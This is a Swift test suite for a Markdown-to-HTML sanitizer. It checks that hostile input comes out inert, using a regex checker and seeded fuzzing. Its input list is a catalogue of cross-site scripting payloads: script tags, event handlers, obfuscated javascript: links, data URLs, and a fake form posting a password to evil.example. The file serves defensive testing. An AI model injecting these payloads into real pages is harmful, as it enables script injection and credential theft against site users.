import Foundation
import Testing

@testable import SafeMarkdown

/// Hostile Markdown comes out inert: every tag in the output is one the sanitizer writes, in the exact
/// form it writes them, and no link or image leads to a script. The markup check below is a regular
/// expression over the output, independent of the sanitizer's own parser.
@Suite struct SafeMarkdownTests {
    static let markup = try! NSRegularExpression(
        pattern: #"^<(/?)(p|br|hr|em|strong|del|s|code|pre|blockquote|h[2-6]|ul|ol|li|a|img|table|thead|tbody|tr|th|td)((?: (?:href|src|alt|title|start|align|rel)="[^"<>]*")*)>"#)
    static let attribute = try! NSRegularExpression(pattern: #" (href|src)="([^"]*)""#)

    /// Fails the test on any `<` that does not start a tag of the allowed form, or a dangerous link.
    static func expectInert(_ html: String, _ source: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let text = html as NSString
        var searchFrom = 0
        while true {
            let found = text.range(of: "<", range: NSRange(location: searchFrom, length: text.length - searchFrom))
            guard found.location != NSNotFound else { break }
            let rest = NSRange(location: found.location, length: text.length - found.location)
            guard let match = Self.markup.firstMatch(in: html, range: rest) else {
                Issue.record("unexpected markup in \(html.debugDescription) from \(source.debugDescription)", sourceLocation: sourceLocation)
                return
            }
            let attributes = text.substring(with: match.range(at: 3))
            for link in Self.attribute.matches(in: attributes, range: NSRange(location: 0, length: (attributes as NSString).length)) {
                let value = (attributes as NSString).substring(with: link.range(at: 2))
                    .replacingOccurrences(of: "&#39;", with: "'").replacingOccurrences(of: "&quot;", with: "\"")
                    .replacingOccurrences(of: "&lt;", with: "<").replacingOccurrences(of: "&gt;", with: ">").replacingOccurrences(of: "&amp;", with: "&")
                let scheme = value.range(of: "^[A-Za-z][A-Za-z0-9+.-]*:", options: .regularExpression).map { value[$0].dropLast().lowercased() }
                #expect(scheme == nil || ["http", "https", "mailto"].contains(scheme!), "link \(value) from \(source.debugDescription)", sourceLocation: sourceLocation)
                #expect(!value.unicodeScalars.contains { $0.value < 0x20 }, "control character in \(value.debugDescription)", sourceLocation: sourceLocation)
            }
            searchFrom = match.range.location + match.range.length
        }
    }

    static let hostile: [String] = [
        "<script>alert(1)</script>",
        "Hello <script src=https://evil.example/x.js></script> world",
        "<p",
        "<a",
        "<p>unclosed paragraph",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\" alt=\"pic\">",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\" javascript:alert(1)\">leading space</a>",
        "<a href=\"java\tscript:alert(1)\">tab</a>",
        "<a href=\"&#106;avascript:alert(1)\">entity</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">hex entity</a>",
        "<a href=\"javascript&colon;alert(1)\">named colon</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<a href='x' onclick='alert(1)'>event</a>",
        "<a href=x onmouseover=alert(1)>unquoted</a>",
        "[link](javascript:alert(1))",
        "[link](JaVaScRiPt:alert(1))",
        "[link](java&#115;cript:alert(1))",
        "[link](javascript&colon;alert(1))",
        "[link](http://example.org\" onmouseover=\"alert(1))",
        "[link](http://example.org' onmouseover='alert(1))",
        "![image](javascript:alert(1))",
        "![image\" onerror=\"alert(1)](http://example.org/x.png)",
        "[ref]: javascript:alert(1)\n\n[click][ref]",
        "<svg onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<style>body { display: none }</style>",
        "<!-- a comment --> after",
        "<div onclick=\"alert(1)\">block html</div>",
        "</div></main><form action=https://evil.example><input name=password>",
        "<strong>never closed",
        "<p><em>mis</p>nested</em>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<a/href=\"javascript:alert(1)\">slash</a>",
        "<a href=javascript:alert(1)//>x</a>",
        "<img src=\"x\" src=\"javascript:alert(1)\">",
        "`<script>alert(1)</script>` in code",
        "```\n<script>alert(1)</script>\n```",
        "| a | b |\n| --- | --- |\n| <script>x</script> | [l](javascript:x) |",
        "> quote <img src=x onerror=alert(1)>",
        "* item <a href=javascript:alert(1)>x</a>",
        "&lt;script&gt; stays text",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "a\u{0}b<scr\u{0}ipt>",
        "<a href=\"http://example.org\">fine</a>",
    ]

    @Test(arguments: Self.hostile)
    func hostileMarkdownRendersInert(markdown: String) {
        let html = SafeMarkdown.render(markdown).html
        Self.expectInert(html, markdown)
        #expect(!html.lowercased().contains("<script"))
        #expect(!html.contains("\u{0}"))
    }

    @Test func markdownStillRenders() {
        let html = SafeMarkdown.render(
            """
            # Title

            Some *emphasis*, **strong** and `code`; a [guide](/guides/eras) and [NRMP](https://www.nrmp.org).

            1. first
            2. second

            > quoted

            ```
            if a < b && c > d { }
            ```
            """
        ).html
        #expect(html.contains("<h2>Title</h2>"))
        #expect(html.contains("<em>emphasis</em>"))
        #expect(html.contains("<strong>strong</strong>"))
        #expect(html.contains("<code>code</code>"))
        #expect(html.contains(#"<a href="/guides/eras">guide</a>"#))
        #expect(html.contains(#"<a href="https://www.nrmp.org" rel="nofollow noopener noreferrer">NRMP</a>"#))
        #expect(html.contains("<ol><li>first</li><li>second</li></ol>"))
        #expect(html.contains("<blockquote>"))
        #expect(html.contains("a &lt; b &amp;&amp; c &gt; d"))
        Self.expectInert(html, "basics")
    }

    @Test func scriptsShowAsTextAndStrayClosingTagsAreDropped() {
        #expect(SafeMarkdown.render("<script>alert(1)</script>").html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        let html = HTMLSanitizer.sanitize("</div><strong>open<em>both")
        #expect(html.html == "&lt;/div&gt;<strong>open<em>both</em></strong>")
    }

    @Test func linksKeepSafeAddressesOnly() {
        #expect(HTMLSanitizer.safeURL("https://example.org/a:b") == "https://example.org/a:b")
        #expect(HTMLSanitizer.safeURL("/guides/a:b") == "/guides/a:b")
        #expect(HTMLSanitizer.safeURL("?q=a:b") == "?q=a:b")
        #expect(HTMLSanitizer.safeURL("mailto:someone@example.org") == "mailto:someone@example.org")
        #expect(HTMLSanitizer.safeURL("javascript:alert(1)") == nil)
        #expect(HTMLSanitizer.safeURL("JAVASCRIPT:alert(1)") == nil)
        #expect(HTMLSanitizer.safeURL("java\nscript:alert(1)") == nil)
        #expect(HTMLSanitizer.safeURL("") == nil)
        #expect(SafeMarkdown.render("[x](javascript:alert(1))").html == "<p><a>x</a></p>")
    }

    /// Inputs on which Ink 0.6.0 alone loops forever (`<p`) or traps reading past the text's end (found
    /// by fuzzing); they must render.
    @Test(arguments: ["<p", "<a", "-", "* ", "---", "1. ", "* -'---\n}#9(81. /-- [x]: 8 $.8p)t=![;11. 4| a |*:{```\n# @;hj---\nx30;:j~(&- '7vi\n    "])
    func inputsThatBrokeInkRender(markdown: String) {
        Self.expectInert(SafeMarkdown.render(markdown).html, markdown)
    }

    @Test func markerParagraphsLeaveNoTrace() {
        #expect(SafeMarkdown.render("Hello").html == "<p>Hello</p>")
        #expect(SafeMarkdown.render("").html == "")
        #expect(SafeMarkdown.render("a \u{E001} b \u{E000}").html == "<p>a \u{FFFD} b \u{FFFD}</p>")
        #expect(SafeMarkdown.render("x < y").html == "<p>x &lt; y</p>")
    }

    @Test func demoFilesCarryTheirMetadata() {
        let (metadata, markdown) = SafeMarkdown.frontMatter("---\ntitle: A guide: part one\ntags: eras, match\n---\n# Heading\n\nText.")
        #expect(metadata == ["title": "A guide: part one", "tags": "eras, match"])
        #expect(SafeMarkdown.render(markdown).html == "<h2>Heading</h2><p>Text.</p>")
        #expect(SafeMarkdown.frontMatter("# No block").markdown == "# No block")
    }

    /// Random text over Markdown's and HTML's special characters: Ink never traps or hangs and the output
    /// is always inert. Seeded, so a failure repeats.
    @Test func randomTextNeverEscapesTheSanitizer() {
        let alphabet = Array("<>/=\"' &;#:*_`[]()!-|\\\n\t~+.^{}ahjrstvcipx0123456789\u{E000}\u{E001}").map(String.init)
            + ["javascript:", "<a href=", "<img src=", "onerror=", "](", "```\n", "&#x6A;", "\r\n", "# ", "> ", "1. ", "- ", "* ", "---\n", "| a |", "\n\n", "    ", "[x]: "]
        var generator = SplitMix64(seed: 20261203)
        for _ in 0..<3_000 {
            let length = Int(generator.next() % 200)
            let markdown = (0..<length).map { _ in alphabet[Int(generator.next() % UInt64(alphabet.count))] }.joined()
            Self.expectInert(SafeMarkdown.render(markdown).html, markdown)
        }
    }
}

/// A small seeded generator, so random tests repeat exactly.
struct SplitMix64: RandomNumberGenerator {
    var state: UInt64
    init(seed: UInt64) { self.state = seed }
    mutating func next() -> UInt64 {
        self.state &+= 0x9E37_79B9_7F4A_7C15
        var z = self.state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
